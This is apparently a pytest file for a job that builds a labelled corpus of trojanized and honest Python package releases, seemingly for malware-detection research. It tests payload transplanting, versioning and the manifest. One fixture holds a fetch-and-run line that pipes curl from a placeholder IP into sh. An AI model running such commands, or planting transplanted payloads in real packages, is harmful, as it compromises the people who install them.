import hashlib
from dataclasses import replace
from random import Random

import pytest

from jobs.corpus.contract import CorpusError
from jobs.corpus.listing import read_csv
from jobs.corpus.payloads.building import build_release, build_releases, heaviest_members, with_next_version
from jobs.corpus.payloads.contract import Donor, PlannedRelease
from jobs.corpus.variants.contract import NotApplicableError
from jobs.corpus.variants.packing import read_package
from tests.jobs.corpus.payloads.conftest import assert_sound, host_package
from tests.jobs.corpus.variants.conftest import SDIST, tar_bytes


def planned(pair, family="init-statements", **more):
    return PlannedRelease(
        **{"number": 0, "split": "train", "label": 1, "family": family, "candidates": (pair,), "seed": 1, **more}
    )


def rows_of(built):
    return list(read_csv(built.manifest, ()))


def test_a_release_is_written_with_a_line_that_says_what_it_is(pair, tmp_path):
    built = build_releases([planned(pair()), planned(pair(), "honest-module", label=0, number=1)], tmp_path / "out")
    assert (1, 1, {}) == (built.positives, built.twins, built.skipped)
    positive, twin = rows_of(built)
    data = (tmp_path / "out" / positive["path"]).read_bytes()
    assert hashlib.sha256(data).hexdigest() == positive["sha256"]
    assert "quillbox-1.3-py3-none-any.whl" == positive["path"].rpartition("/")[2]
    assert ("1", "template", "import", "tail", "wheel") == tuple(
        positive[c] for c in ("label", "donor", "place", "stratum", "kind")
    )
    assert pair().base.sha256 == positive["base_sha256"]
    assert positive["member"] in read_package(data, "x.whl", "quillbox", "1.3").files()
    assert ("0", "honest-module", "") == (twin["label"], twin["family"], twin["dress"])


def test_a_release_is_the_true_next_one_or_gets_the_next_version(pair):
    for raised, expected in ((False, "1.3"), (True, "1.4")):
        chosen = pair("sdist", raised=raised)
        made, _ = build_release(planned(chosen), chosen, heaviest_members)
        if not raised:
            assert expected == made.version
            assert f"quillbox-{expected}.tar.gz" == made.filename
        else:
            assert made.version in {"1.4", "1.3.post1"}
        assert_sound(made)


@pytest.mark.parametrize("kind", ["sdist", "wheel"])
def test_a_version_is_raised_everywhere_that_the_release_states_it(kind):
    made = with_next_version(host_package(kind), Random(1))
    assert made.version != "1.2"
    assert made.version in made.filename
    assert_sound(made)
    for path, data in made.files().items():
        assert "1.2/" not in path
        assert "1.2.dist-info" not in path
        if path.endswith(("METADATA", "PKG-INFO", "quillbox/__init__.py", "setup.py")):
            assert made.version.encode() in data


def test_a_build_goes_on_where_it_stopped(pair, tmp_path):
    first = build_releases([planned(pair())], tmp_path / "out")
    second = build_releases([planned(pair()), planned(pair("sdist"), "setup-top", number=1)], tmp_path / "out")
    assert (0, 1, 2) == (first.resumed, second.resumed, second.positives)
    third = build_releases([planned(pair())], tmp_path / "out")
    assert (1, 1) == (third.positives, third.resumed)


def test_another_host_is_taken_where_the_first_does_not_fit(pair, tmp_path):
    gone = replace(pair(), host=replace(pair().host, path=str(tmp_path / "gone.whl")))
    other = replace(pair(), host=replace(pair().host, sha256="00"))
    built = build_releases([planned(gone, candidates=(gone, other, pair()))], tmp_path / "out")
    assert 1 == built.positives
    built = build_releases([planned(gone), planned(other, number=1)], tmp_path / "none")
    assert 0 == built.positives
    assert {
        "init-statements: cannot be read": 1,
        "init-statements: has another digest than its list says": 1,
    } == built.skipped


def test_nothing_is_built_inside_a_repository(pair, tmp_path):
    (tmp_path / ".git").mkdir()
    with pytest.raises(CorpusError, match="inside a repository"):
        build_releases([planned(pair())], tmp_path / "out")


def test_the_payload_of_a_donor_is_put_in(pair, tmp_path):
    setup = "from setuptools import setup\nprint('the mark')\nsetup()\n"
    file = tmp_path / "bad-1.tar.gz"
    file.write_bytes(tar_bytes({**SDIST, "setup.py": setup}, "bad-1/"))
    donor = Donor(str(file), file.name, "aa", "bad", "1", "c1", "setup", "2025-02-01")
    built = build_releases(
        [planned(pair(), "init-new-module", donor=donor, number=n) for n in range(8)], tmp_path / "out"
    )
    rows = rows_of(built)
    assert {("c1", "aa", "2025-02-01", "transplant")} == {
        (r["donor"], r["donor_sha256"], r["donor_first_seen"], r["act"]) for r in rows
    }
    assert any(b"the mark" in (tmp_path / "out" / r["path"]).read_bytes() or r["dress"] for r in rows)


def test_source_that_would_not_compile_is_not_built(pair):
    chosen = pair()
    donor_code = Donor("", "x", "aa", "bad", "1", "c1", "setup")
    release = planned(chosen, "init-new-module", donor=donor_code)
    with pytest.raises((NotApplicableError, OSError)):
        build_release(release, chosen, heaviest_members)


def test_members_with_evidence_come_first(tmp_path):
    file = tmp_path / "bad-1.tar.gz"
    file.write_bytes(
        tar_bytes({**SDIST, "quillbox/pen.py": "import os\nos.system('curl http://198.51.100.7/x | sh')\n"}, "bad-1/")
    )
    assert "bad-1/quillbox/pen.py" == heaviest_members(file, file.name)[0]
